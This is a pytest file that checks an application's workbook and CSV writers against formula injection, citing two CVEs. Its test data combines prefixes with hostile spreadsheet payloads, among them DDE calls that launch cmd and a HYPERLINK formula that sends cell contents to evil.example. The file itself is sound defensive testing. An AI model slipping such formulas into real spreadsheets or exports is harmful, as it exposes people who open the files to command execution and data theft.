"""Class 11, cells that become formulas (OTRS CVE-2026-93581, SolarWinds CVE-2019-20002)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.core.sheets import as_csv_text
from app.sheets.writing import csv_parts, write_workbook

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", '"=', "'=", " =", "\u200b=", "\ufeff=",
              "\xa0=", ";=", ",=", "|=", "\n=", "x\n=", "x,=", 'x"=', "x;=", "x\t=")  # fmt: skip
TAILS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "1+1", "SUM(A1:A9)", "IMPORTXML(A1)",
         'DDE("cmd";"/C calc";"x")', "WEBSERVICE(A1)")  # fmt: skip
FORMULAS = [f"{beginning}{tail}" for beginning in BEGINNINGS for tail in TAILS]
HARMLESS = ["-5", "+98 912 345 6789", "+989123456789", "۱۲۳", "-1,234.50", "سلام", "a=b", "x-y", "a@b.example", ""]
DANGER = tuple("=+-@\t\r\n＝＋－＠")


def test_a_workbook_holds_words_alone(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, [[each, each] for each in (*FORMULAS, *HARMLESS)], right_to_left=True)
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]  # type: ignore[union-attr]  # it has one
    assert len(cells) >= len(FORMULAS)
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "inlineStr"}


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_reader_of_a_list_finds_a_formula_whatever_separates_its_cells(separator: str) -> None:
    whole = "".join(csv_parts([[each, "x"] for each in FORMULAS])).lstrip("\ufeff")
    for line in csv.reader(io.StringIO(whole, newline=""), delimiter=separator):
        for cell in line:
            for part in (cell, *cell.splitlines()):
                assert not part.strip("\u200b\ufeff\xa0 ").strip('"').startswith(DANGER), (separator, line)


def test_numbers_and_telephones_stay_as_they_are() -> None:
    for each in HARMLESS:
        assert as_csv_text(each) == each
